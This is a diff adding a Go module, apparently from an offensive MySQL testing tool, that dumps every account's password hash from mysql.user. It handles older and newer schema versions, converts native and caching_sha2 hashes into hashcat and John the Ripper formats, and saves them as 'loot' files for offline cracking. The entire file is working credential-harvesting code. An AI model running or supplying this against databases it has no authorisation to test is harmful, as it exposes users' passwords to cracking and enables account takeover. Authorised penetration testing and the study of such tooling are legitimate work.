@@ -0,0 +1,129 @@
+package core
+
+import (
+    "context"
+    "database/sql"
+    "encoding/hex"
+    "fmt"
+    "os"
+    "path/filepath"
+    "strings"
+)
+
+// authHash is one account's authentication string from mysql.user
+type authHash struct {
+    user   string
+    host   string
+    plugin string
+    hash   []byte
+}
+
+// lootHashes pulls the authentication strings from mysql.user and writes them in hashcat
+// (modes 300 and 7401) and John the Ripper formats under --loot-dir
+func (e *Engine) lootHashes(ctx context.Context, db *sql.DB, backend string, log *os.File) {
+    if e.hashesLooted.Load() {
+        return
+    }
+    if isVitessBackend(backend) || backend == backendClickHouse {
+        e.verbosePrintln("Hash extraction skipped:", backend, "has no mysql.user table")
+        return
+    }
+
+    hashes, err := queryAuthHashes(ctx, db)
+    if err != nil {
+        // Usually missing SELECT on mysql.user, a later credential may have it
+        e.printWarning("Hash extraction failed (insufficient privileges?): %v", err)
+        return
+    }
+    if e.hashesLooted.Swap(true) {
+        return
+    }
+
+    e.writeLoot(filepath.Join(e.opts.LootDir, sanitizeFilename(fmt.Sprintf("%s_%d", e.opts.Host, e.opts.Port))), hashes, log)
+}
+
+// writeLoot writes hashes to dir as hashcat_300.txt, hashcat_7401.txt and john.txt
+func (e *Engine) writeLoot(dir string, hashes []authHash, log *os.File) {
+    if err := e.makeRunDir(dir, 0700); err != nil {
+        e.printError("Failed to create loot directory: %v", err)
+        return
+    }
+
+    var native, sha2, john []string
+    skipped := 0
+    for _, h := range hashes {
+        account := h.user + "@" + h.host
+        switch {
+        case len(h.hash) == 41 && h.hash[0] == '*':
+            // mysql_native_password: '*' followed by SHA1(SHA1(password)) in hex
+            native = append(native, account+":"+string(h.hash[1:]))
+            john = append(john, account+":"+string(h.hash))
+        case len(h.hash) > 27 && strings.HasPrefix(string(h.hash), "$A$"):
+            // caching_sha2_password: $A$<rounds>$<20 byte salt><43 char digest>
+            line := fmt.Sprintf("$mysql$A$%s*%s*%s", h.hash[3:6],
+                strings.ToUpper(hex.EncodeToString(h.hash[7:27])), strings.ToUpper(hex.EncodeToString(h.hash[27:])))
+            sha2 = append(sha2, account+":"+line)
+            john = append(john, account+":"+line)
+        case len(h.hash) == 0:
+            e.verbosePrintf("Account %s has no password\n", account)
+        default:
+            e.verbosePrintf("Skipping %s: unsupported plugin %s\n", account, h.plugin)
+            skipped++
+        }
+    }
+
+    files := []struct {
+        name  string
+        lines []string
+    }{
+        {"hashcat_300.txt", native},
+        {"hashcat_7401.txt", sha2},
+        {"john.txt", john},
+    }
+    for _, f := range files {
+        if len(f.lines) == 0 {
+            continue
+        }
+        path := filepath.Join(dir, f.name)
+        e.noteCreated(path)
+        if err := os.WriteFile(path, []byte(strings.Join(f.lines, "\n")+"\n"), 0600); err != nil {
+            e.printError("Failed to write %s: %v", path, err)
+        }
+    }
+
+    msg := fmt.Sprintf("Looted %d password hashes (%d native, %d caching_sha2, %d unsupported) to %s",
+        len(native)+len(sha2), len(native), len(sha2), skipped, dir)
+    e.printSuccess("%s", msg)
+    if log != nil {
+        log.WriteString(msg + "\n")
+    }
+    e.emitRecord("loot", map[string]interface{}{"native": len(native), "caching_sha2": len(sha2), "unsupported": skipped, "dir": dir})
+}
+
+// queryAuthHashes reads every account's authentication string, using the Password column where
+// older MySQL and MariaDB keep native hashes. MySQL 8 has no Password column.
+func queryAuthHashes(ctx context.Context, db *sql.DB) ([]authHash, error) {
+    rows, err := db.QueryContext(ctx, "SELECT User, Host, plugin, HEX(IF(authentication_string = '', Password, authentication_string)) FROM mysql.user")
+    if err != nil {
+        rows, err = db.QueryContext(ctx, "SELECT User, Host, plugin, HEX(authentication_string) FROM mysql.user")
+        if err != nil {
+            return nil, err
+        }
+    }
+    defer rows.Close()
+
+    var hashes []authHash
+    for rows.Next() {
+        var h authHash
+        var hexHash sql.NullString
+        if err := rows.Scan(&h.user, &h.host, &h.plugin, &hexHash); err != nil {
+            return nil, err
+        }
+        // Hashes are fetched as hex because caching_sha2 salts are raw bytes
+        if h.hash, err = hex.DecodeString(hexHash.String); err != nil {
+            return nil, err
+        }
+        hashes = append(hashes, h)
+    }
+    return hashes, rows.Err()
+}